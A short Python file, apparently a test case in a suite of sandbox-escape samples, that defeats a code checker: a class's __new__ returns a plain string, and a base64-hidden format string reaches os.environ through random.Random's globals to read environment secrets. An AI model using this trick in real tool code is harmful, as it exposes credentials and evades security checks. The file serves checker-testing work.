# family: format
# Escape: `t = Text(...)` then `t.format(...)` is trusted because Text is a tool class that defines its own
# format method. But Text.__new__ returns a plain str (the decoded argument), so __init__ never runs and t is a
# real str: t.format is str.format with "{0.__init__.__globals__[_os].environ}", reading os.environ.
import base64
import random


class Text:
    def __new__(cls, encoded: str):
        return base64.b64decode(encoded).decode()

    def format(self, *args) -> str:
        return ""


def tool() -> str:
    text = Text("ezAuX19pbml0X18uX19nbG9iYWxzX19bX29zXS5lbnZpcm9ufQ==")
    return text.format(random.Random())
